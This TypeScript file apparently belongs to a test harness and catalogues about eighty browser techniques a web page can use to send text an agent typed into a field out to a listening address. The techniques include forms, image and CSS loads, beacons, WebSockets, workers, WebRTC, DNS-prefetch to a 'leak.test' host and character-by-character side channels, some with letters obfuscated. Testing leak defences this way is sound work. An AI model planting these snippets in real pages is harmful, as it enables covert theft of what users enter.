// How pages get out what the agent wrote, each by another way. `v` is what stands in the field, `L` the address of whoever wants it.

/** One way that a page tries to get text out. */
export interface WayOut {
  readonly name: string
  /** Runs as somebody writes into the field, and as the button is clicked. */
  readonly script?: string
  /** Stands in the page. `{L}` and `{W}` stand for the addresses, for HTTP and WebSockets. */
  readonly html?: string
  /** Runs with the page. */
  readonly early?: string
}

const way = (name: string, script: string): WayOut => ({ name, script })
const tag = (name: string, element: string, attributes: string): WayOut =>
  way(name, `const e = document.createElement('${element}'); Object.assign(e, ${attributes}); document.body.append(e)`)
const link = (rel: string, more = ''): WayOut =>
  tag(`link rel=${rel}`, 'link', `{ rel: '${rel}', href: L + '/x?' + v${more} }`)
const form = (name: string, attributes: string, more = ''): WayOut =>
  way(
    name,
    `const f = document.createElement('form'); f.innerHTML = '<input name=q>'; f.q.value = v; Object.assign(f, ${attributes}); document.body.append(f); ${more} f.submit()`,
  )
const inWorker = (code: string) =>
  `window.URL.createObjectURL(new Blob(["onmessage = ({ data: [v, L] }) => { ${code} }"]))`
const style = (name: string, css: string): WayOut =>
  way(name, `const s = document.createElement('style'); s.textContent = ${css}; document.head.append(s)`)
const NAMED = "'http://' + v.toLowerCase().replace(/[^a-z0-9]/g, '') + '.leak.test:' + new window.URL(L).port"
const TURNED = 'v.replace(/[a-z]/gi, (c) => String.fromCharCode((c.charCodeAt(0) ^ 3)))'
/** A document with it in the address of a picture, in letters that nobody knows again. */
const PICTURED = `['<img src=' + JSON.stringify(L + '/x?' + ${TURNED}) + '>']`
const OUTLIVING = `const u = L + '/x?' + ${TURNED}; w.document.write('<scr' + 'ipt>opener.close(); setTimeout(() => { new Image().src = ' + JSON.stringify(u) + ' }, 200)</scr' + 'ipt>')`

export const WAYS_OUT: readonly WayOut[] = [
  form('a form to another site', "{ action: L + '/x', method: 'post' }"),
  form('a form to the page itself', "{ action: '/x', method: 'post' }"),
  form('a form that asks another site', "{ action: L + '/x', method: 'get' }"),
  form('a form that asks the page itself', "{ action: '/x', method: 'get' }"),
  form('a form with parts', "{ action: L + '/x', method: 'post', enctype: 'multipart/form-data' }"),
  form('a form in plain text', "{ action: L + '/x', method: 'post', enctype: 'text/plain' }"),
  form('a form into another tab', "{ action: L + '/x', method: 'post', target: '_blank' }"),
  form(
    'a form into a frame',
    "{ action: L + '/x', method: 'post', target: 'n' }",
    "document.body.append(Object.assign(document.createElement('iframe'), { name: 'n' }));",
  ),
  tag('the address of a picture', 'img', "{ src: L + '/x?' + v }"),
  tag('one of several pictures', 'img', "{ srcset: L + '/x?' + v + ' 1x' }"),
  tag('the poster of a film', 'video', "{ poster: L + '/x?' + v }"),
  tag('a film', 'video', "{ src: L + '/x?' + v, preload: 'auto' }"),
  tag('a sound', 'audio', "{ src: L + '/x?' + v, preload: 'auto' }"),
  tag('a button that is a picture', 'input', "{ type: 'image', src: L + '/x?' + v }"),
  way(
    'a picture that is drawn',
    "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + L + '/x?' + v + '\"/></svg>')",
  ),
  tag('an object', 'object', "{ data: L + '/x?' + v }"),
  tag('something embedded', 'embed', "{ src: L + '/x?' + v }"),
  tag('a frame', 'iframe', "{ src: L + '/x?' + v }"),
  tag('a frame that holds a picture', 'iframe', "{ srcdoc: '<img src=\"' + L + '/x?' + v + '\">' }"),
  tag('a script', 'script', "{ src: L + '/x?' + v }"),
  style('a background', "'body { background: url(' + L + '/x?' + v + ') }'"),
  style('an imported style', "'@import url(' + L + '/x?' + v + ')'"),
  style('a font', "'@font-face { font-family: x; src: url(' + L + '/x?' + v + ') } body { font-family: x }'"),
  link('stylesheet'),
  link('icon'),
  link('prefetch'),
  link('preload', ", as: 'image'"),
  link('modulepreload'),
  link('manifest'),
  way(
    'the name of a host, in advance',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: ${NAMED} }))`,
  ),
  way(
    'a connection in advance',
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: ${NAMED} }))`,
  ),
  tag('the name of a host', 'img', `{ src: ${NAMED} + '/x' }`),
  way('fetch', "fetch(L + '/x?' + v, { mode: 'no-cors' }).catch(() => {})"),
  way('fetch with a body', "fetch(L + '/x', { method: 'POST', mode: 'no-cors', body: v }).catch(() => {})"),
  way(
    'fetch that outlives the page',
    "fetch(L + '/x', { method: 'POST', mode: 'no-cors', keepalive: true, body: v }).catch(() => {})",
  ),
  way('fetch that must ask first', "fetch(L + '/x?' + v, { headers: { 'x-v': '1' } }).catch(() => {})"),
  way('a request', "const x = new XMLHttpRequest(); x.open('POST', '/x'); x.send(v)"),
  way(
    'a request that everything waits for',
    "try { const x = new XMLHttpRequest(); x.open('GET', '/x?' + v, false); x.send() } catch {}",
  ),
  way('a beacon', "navigator.sendBeacon(L + '/x', v)"),
  way('a beacon of bytes', "navigator.sendBeacon(L + '/x', new Blob([v], { type: 'application/octet-stream' }))"),
  way('a stream of events', "new EventSource(L + '/x?' + v)"),
  way('a WebSocket', "new WebSocket(L.replace('http', 'ws') + '/x?' + v)"),
  way('a WebSocket to the page itself', "new WebSocket('ws://' + location.host + '/x?' + v)"),
  way('an import', "import(L + '/x?' + v).catch(() => {})"),
  way(
    'a worker that fetches',
    `new Worker(${inWorker("fetch(L + '/x?' + v, { mode: 'no-cors' })")}).postMessage([v, L])`,
  ),
  way('a worker that imports', `new Worker(${inWorker("importScripts(L + '/x?' + v)")}).postMessage([v, L])`),
  way(
    'a worker with a WebSocket',
    `new Worker(${inWorker("new WebSocket(L.replace('http', 'ws') + '/x?' + v)")}).postMessage([v, L])`,
  ),
  way(
    'a worker that many share',
    `new SharedWorker("data:text/javascript," + encodeURIComponent("fetch('" + L + "/x?" + v + "', { mode: 'no-cors' })"))`,
  ),
  way('another address', "location = L + '/x?' + v"),
  way('another address of the page itself', "location = '/x?' + v"),
  way('another tab', "window.open(L + '/x?' + v)"),
  way(
    'a tab that gets it by message',
    "const w = window.open('/'); setTimeout(() => w && w.document.body && (w.document.body.innerHTML = '<img src=\"' + L + '/x?' + v + '\">'), 100)",
  ),
  way(
    'a refresh',
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0; url=' + L + '/x?' + v }))",
  ),
  way(
    'a ping of a link',
    "const a = document.createElement('a'); a.href = '#'; a.ping = L + '/x?' + v; document.body.append(a); a.click()",
  ),
  way(
    'a download',
    "const a = document.createElement('a'); a.href = L + '/x?' + v; a.download = 'x'; document.body.append(a); a.click()",
  ),
  way('a link whose address changes', "go.href = L + '/x?' + v; go.click()"),
  way(
    'a call to a peer',
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + L.split('//')[1] }] }); p.createDataChannel(v); p.createOffer().then((o) => p.setLocalDescription(o))",
  ),
  way(
    'a report of a rule',
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: 'img-src none' })); new Image().src = L + '/x?' + v",
  ),
  way('a header', "fetch('/x', { headers: { 'x-v': v } }).catch(() => {})"),
  way('a cookie, with a link that stood there', "document.cookie = 'v=' + v; go.click()"),
  way(
    'a cookie of letters turned into others, with a link that stood there',
    `document.cookie = 'v=' + ${TURNED}; go.click()`,
  ),
  way('its own address, with a link that stood there', "history.replaceState(0, '', '/?' + v); go.click()"),
  way('its own address, with a picture', "history.replaceState(0, '', '/?' + v); new Image().src = '/x'"),
  {
    name: 'which link that stood there it follows',
    html: Array.from({ length: 95 }, (_, index) => `<a hidden id=l${index + 32} href="/x/${index + 32}"></a>`).join(''),
    script: "document.getElementById('l' + v.charCodeAt(0)).click()",
  },
  tag('base64', 'img', "{ src: L + '/x?' + btoa(v) }"),
  tag('letters turned into others', 'img', `{ src: L + '/x?' + ${TURNED} }`),
  way('letters turned into others, to the page itself', `fetch('/x/' + ${TURNED})`),
  way('letter by letter', "[...v].forEach((c, i) => { new Image().src = '/x/' + i + c })"),
  way(
    'how many pictures are asked for',
    "for (const c of v) new Image().src = '/x/' + c.charCodeAt(0) + Math.random()",
  ),
  {
    name: 'letter by letter in links that stood there',
    html: Array.from({ length: 95 }, (_, index) => `<a hidden href="{L}/x/${index + 32}"></a>`).join(''),
    script: "[...v].forEach((c) => { new Image().src = L + '/x/' + c.charCodeAt(0) })",
  },
  {
    name: 'letter by letter in frames of links that stood there',
    html: Array.from({ length: 95 }, (_, index) => `<a hidden href="/x/${index + 32}"></a>`).join(''),
    script:
      "[...v].forEach((c) => { document.body.append(Object.assign(document.createElement('iframe'), { src: '/x/' + c.charCodeAt(0) })) })",
  },
  way(
    'another document, made of it',
    `location = window.URL.createObjectURL(new Blob(${PICTURED}, { type: 'text/html' }))`,
  ),
  way('another document, from a script', `location = 'javascript:' + JSON.stringify(${PICTURED}[0])`),
  way('another document, written anew', `document.open(); document.write(${PICTURED}[0]); document.close()`),
  way('a window that closes the page', `const w = window.open(''); if (w) { ${OUTLIVING} }`),
  way(
    'a window made of it that closes the page',
    `const u = L + '/x?' + ${TURNED}; window.open(window.URL.createObjectURL(new Blob(['<scr' + 'ipt>opener.close(); setTimeout(() => { new Image().src = ' + JSON.stringify(u) + ' }, 200)</scr' + 'ipt>'], { type: 'text/html' })))`,
  ),
  {
    name: 'a WebSocket that stood open',
    early: "globalThis.s = new WebSocket(L.replace('http', 'ws') + '/open')",
    script: 's.send(v)',
  },
]
